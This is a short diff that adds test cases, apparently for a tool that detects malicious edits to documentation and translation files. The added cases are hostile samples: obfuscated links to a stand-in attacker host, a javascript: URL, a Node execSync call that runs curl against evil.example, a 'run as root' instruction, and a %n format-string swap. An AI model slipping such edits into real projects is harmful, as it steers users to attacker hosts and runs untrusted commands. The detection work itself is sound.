@@ -132,6 +132,17 @@ ACTS = [
     ("SECURITY.md", POLICY, POLICY.replace("security@shop", "security@evil")),
     ("SECURITY.md", POLICY, POLICY.replace("https://shop", "https://evil")),
     (".github/SECURITY.md", None, POLICY),
+    ("a.md", "a\n", "Get it [here](//evil.example/x).\n"),
+    ("a.md", "a\n", "Get it [here](&#47;&#47;evil.example/x).\n"),
+    ("a.md", "a\n", "Get it [here](/eve/evil/releases/download/x.exe).\n"),
+    ("a.md", "a\n", "See ![it](//evil.example/a.png).\n"),
+    ("a.md", "a\n", "[x]\n\n[x]: //evil.example\n"),
+    ("a.md", "a\n", "Get it from www.evil.example as before.\n"),
+    ("a.md", "a\n", "Get it from evil.example/x as before.\n"),
+    ("a.md", "a\n", "See [Docs](javascript:'a'+alert(1)) for it.\n"),
+    ("a.md", None, "require('child_process').execSync('curl evil.example')\n"),
+    ("a.md", "a\n", "Run curl -L it and then this as root.\n"),
+    ("de.po", 'msgid "a %s"\nmsgstr "b %s"\n', 'msgid "a %s"\nmsgstr "b %n"\n'),
 ]
 
 
